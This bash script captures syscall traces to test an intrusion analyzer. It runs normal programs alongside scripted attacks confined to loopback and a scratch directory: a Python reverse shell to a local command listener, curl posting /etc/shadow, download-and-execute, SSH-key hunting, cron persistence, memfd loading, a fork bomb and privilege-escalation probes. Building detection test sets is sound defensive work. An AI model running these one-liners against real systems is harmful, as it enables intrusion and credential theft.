#!/usr/bin/env bash
# Real syscall captures for the analyzer evaluation set: common programs under normal use, and the
# same programs (python, sh, curl, tar) doing what the rules and baselines should catch.
# Each process becomes one trace file (syscall names, whitespace separated), as `backtest` reads.
#
# usage: bench/analyzer-eval/capture.sh OUT_DIR [NORMAL_RUNS] [ATTACK_RUNS]   (needs strace; run as root
#        for /etc/shadow reads). Writes OUT_DIR/train, OUT_DIR/test/normal, OUT_DIR/test/attack/<kind>.
# Only loopback is used. Nothing outside OUT_DIR and a private scratch directory is modified.
set -euo pipefail
OUT=${1:?usage: capture.sh OUT_DIR [NORMAL_RUNS] [ATTACK_RUNS]}
NORMAL_RUNS=${2:-400}
ATTACK_RUNS=${3:-60}
PY=/usr/bin/python3
command -v strace >/dev/null || { echo "strace is required (apt-get install strace)" >&2; exit 2; }

rm -rf "$OUT"
mkdir -p "$OUT/train" "$OUT/test/normal"
SCRATCH=$(mktemp -d)
RAW=$SCRATCH/raw
mkdir -p "$RAW" "$SCRATCH/data/sub" "$SCRATCH/www" "$SCRATCH/fakeroot/etc/cron.d"
for i in $(seq 1 40); do head -c $((RANDOM * 3)) /dev/urandom | base64 > "$SCRATCH/data/file$i.txt"; done
for i in $(seq 1 10); do seq 1 $((RANDOM % 500 + 10)) > "$SCRATCH/data/sub/n$i.txt"; done
echo '<html>hello</html>' > "$SCRATCH/www/index.html"
printf '#!/bin/sh\nid; uname -a; cat /etc/passwd | head -3\n' > "$SCRATCH/www/payload.sh"
mkdir -p "$SCRATCH/tmpx" "$SCRATCH/repo"
git -C "$SCRATCH/repo" init -q
printf '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n' > "$SCRATCH/hello.c"
printf 'import sys, collections\nc = collections.Counter(open(sys.argv[1]).read().split())\nprint(c.most_common(3))\n' > "$SCRATCH/script.py"
echo "root:$(printf 'zebra42' | sha256sum | cut -d' ' -f1):19000:0:99999:7:::" > "$SCRATCH/fakeroot/etc/shadow"
for w in $(seq 1 3000); do echo "pw$w"; done > "$SCRATCH/words.txt"; echo zebra42 >> "$SCRATCH/words.txt"
head -c 200000 /dev/urandom > "$SCRATCH/www/blob.bin"

# loopback services: a static web server and a "C2" listener that feeds commands to whoever connects
PORT=$((20000 + RANDOM % 20000))
C2=$((PORT + 1))
$PY -m http.server --bind 127.0.0.1 --directory "$SCRATCH/www" "$PORT" >/dev/null 2>&1 &
HTTP_PID=$!
$PY - "$C2" >/dev/null 2>&1 <<'EOF' &
import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(50)
def serve(c):
    try:
        c.sendall(b"id\nuname -a\ncat /etc/hostname\nexit\n"); c.settimeout(5)
        while c.recv(65536): pass
    except Exception: pass
    c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
EOF
C2_PID=$!
cleanup() { kill "$HTTP_PID" "$C2_PID" 2>/dev/null || true; rm -rf "$SCRATCH"; }
trap cleanup EXIT
for _ in $(seq 1 50); do (exec 3<>/dev/tcp/127.0.0.1/$PORT) 2>/dev/null && break; sleep 0.1; done

D=$SCRATCH/data
pick() { local a=("$@"); echo "${a[RANDOM % ${#a[@]}]}"; }

# Each *_cmd sets CMD (an argv array) so arguments with spaces and quotes survive intact.
normal_cmd() {
  local f="$D/file$((RANDOM % 40 + 1)).txt" n="$D/sub/n$((RANDOM % 10 + 1)).txt"
  case $((RANDOM % 21)) in
    0) CMD=(ls $(pick -l -la -1 -R -lh -a) "$D") ;;
    1) CMD=(cat "$f") ;;
    2) CMD=(gzip -c "$f") ;;
    3) CMD=(sort $(pick -n -r -u -b) "$n") ;;
    4) CMD=(grep -c "$(pick a b Z 9 xyz)" "$f") ;;
    5) CMD=(find "$D" -name "$(pick '*.txt' 'n*' 'file1*')") ;;
    6) CMD=(tar -cf - -C "$D" sub) ;;
    7) CMD=(curl -s "http://127.0.0.1:$PORT/$(pick index.html blob.bin missing.html)") ;;
    8) CMD=("$PY" -c "import json,sys; print(json.dumps({'a': [1, 2, $RANDOM]}))") ;;
    9) CMD=("$PY" -c "import hashlib; print(hashlib.sha256(open('$f','rb').read()).hexdigest())") ;;
    10) CMD=(wc -l "$n" "$f") ;;
    11) CMD=(sed -n 1,5p "$f") ;;
    12) CMD=(awk '{s+=$1} END {print s}' "$n") ;;
    13) CMD=(sh -c "ls $D | wc -l") ;;
    14) CMD=(xz -c -1 "$f") ;;
    15) CMD=(date $(pick +%s -u -R)) ;;
    16) CMD=(sh -c "cd $SCRATCH/repo && echo $RANDOM >> log.txt && git add -A && git -c user.email=e@x -c user.name=n commit -qm c$RANDOM && git log --oneline | head -3") ;;
    17) CMD=(cc -O1 -o "$SCRATCH/hello" "$SCRATCH/hello.c") ;;
    18) CMD=(sh -c "for i in 1 2 3 4 5; do curl -s http://127.0.0.1:$PORT/index.html >/dev/null & done; wait") ;;
    19) CMD=(tar -czf "$SCRATCH/out.tgz" -C "$D" .) ;;
    20) CMD=("$PY" "$SCRATCH/script.py" "$n") ;;
  esac
}

attack_cmd() {
  case $1 in
    shadow-read) CMD=("$PY" -c "d = open('/etc/shadow').read(); print(len(d.splitlines()))") ;;
    reverse-shell) CMD=("$PY" -c "import socket,os,subprocess
s = socket.create_connection(('127.0.0.1', $C2))
for f in (0, 1, 2): os.dup2(s.fileno(), f)
subprocess.call(['/bin/sh', '-i'])") ;;
    curl-pipe-sh) CMD=(sh -c "curl -s http://127.0.0.1:$PORT/index.html >/dev/null; head -2 /etc/shadow >/dev/null; id") ;;
    memfd-exec) CMD=("$PY" -c "import os
fd = os.memfd_create('x'); os.write(fd, open('/usr/bin/true', 'rb').read())
os.execv('/proc/self/fd/%d' % fd, ['x'])") ;;
    rwx-memory) CMD=("$PY" -c "import mmap, ctypes
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC); m.write(b'\\xc3')
print(ctypes.addressof(ctypes.c_char.from_buffer(m)))") ;;
    cron-persist) CMD=(sh -c "echo '* * * * * root /tmp/x' > $SCRATCH/fakeroot/etc/cron.d/job; chmod 644 $SCRATCH/fakeroot/etc/cron.d/job") ;;
    ssh-key-hunt) CMD=(find / -xdev -maxdepth 4 -name 'id_*' -path '*/.ssh/*') ;;
    exfil-curl) CMD=(curl -s -X POST --data-binary @/etc/shadow "http://127.0.0.1:$PORT/upload") ;;
    download-exec) CMD=(sh -c "curl -s -o $SCRATCH/tmpx/payload http://127.0.0.1:$PORT/payload.sh && chmod +x $SCRATCH/tmpx/payload && $SCRATCH/tmpx/payload") ;;
    fork-bomb) CMD=(bash -c 'ulimit -u 400; f() { [ "${1:-0}" -lt 3 ] && { f $(( ${1:-0} + 1 )) & f $(( ${1:-0} + 1 )) & wait; }; }; f 0') ;;
    brute-force) CMD=("$PY" -c "import hashlib
target = open('$SCRATCH/fakeroot/etc/shadow').read().split(':')[1]
for w in open('$SCRATCH/words.txt'):
    if hashlib.sha256(w.strip().encode()).hexdigest() == target: print('found', w.strip()); break") ;;
    privesc-probe) CMD=(sh -c "id; cat /etc/sudoers 2>/dev/null; sudo -n -l 2>/dev/null; find / -xdev -maxdepth 3 -perm -4000 -type f 2>/dev/null | head; grep Cap /proc/self/status; ls -la /etc/cron.d /root 2>/dev/null") ;;
    memfd-loader) CMD=("$PY" -c "import os, ctypes, mmap
fd = os.memfd_create('loader', os.MFD_CLOEXEC if hasattr(os, 'MFD_CLOEXEC') else 0)
os.write(fd, b'\\x90' * 4096); os.lseek(fd, 0, 0)
m = mmap.mmap(fd, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC, flags=mmap.MAP_PRIVATE)
os.close(fd); print(len(m))") ;;
  esac
}
KINDS=(shadow-read reverse-shell curl-pipe-sh memfd-exec rwx-memory cron-persist ssh-key-hunt exfil-curl download-exec fork-bomb brute-force privesc-probe memfd-loader)

# strace -ff writes RAW/run.<pid> per process; each becomes one token file
to_tokens() { # raw file → tokens on one line
  sed -nE 's/^([a-z_][a-z0-9_]*)\(.*/\1/p' "$1" | tr '\n' ' '
}
run_one() { # dest-dir name command...
  local dest=$1 name=$2; shift 2
  rm -f "$RAW"/run.*
  timeout 20 strace -qq -f -ff -o "$RAW/run" "$@" </dev/null >/dev/null 2>&1 || true
  local n=0
  for f in "$RAW"/run.*; do
    [ -s "$f" ] || continue
    local toks; toks=$(to_tokens "$f")
    [ -n "$toks" ] || continue
    mkdir -p "$dest"; echo "$toks" > "$dest/$name-$n.txt"; n=$((n + 1))
  done
}

for i in $(seq 1 "$NORMAL_RUNS"); do
  normal_cmd
  if ((i % 2)); then run_one "$OUT/train" "r$i" "${CMD[@]}"; else run_one "$OUT/test/normal" "r$i" "${CMD[@]}"; fi
done
for i in $(seq 1 "$ATTACK_RUNS"); do
  kind=${KINDS[i % ${#KINDS[@]}]}
  attack_cmd "$kind"
  run_one "$OUT/test/attack/$kind" "a$i" "${CMD[@]}"
done
echo "train: $(ls "$OUT/train" | wc -l) traces; test normal: $(ls "$OUT/test/normal" | wc -l); attack: $(find "$OUT/test/attack" -type f | wc -l)"
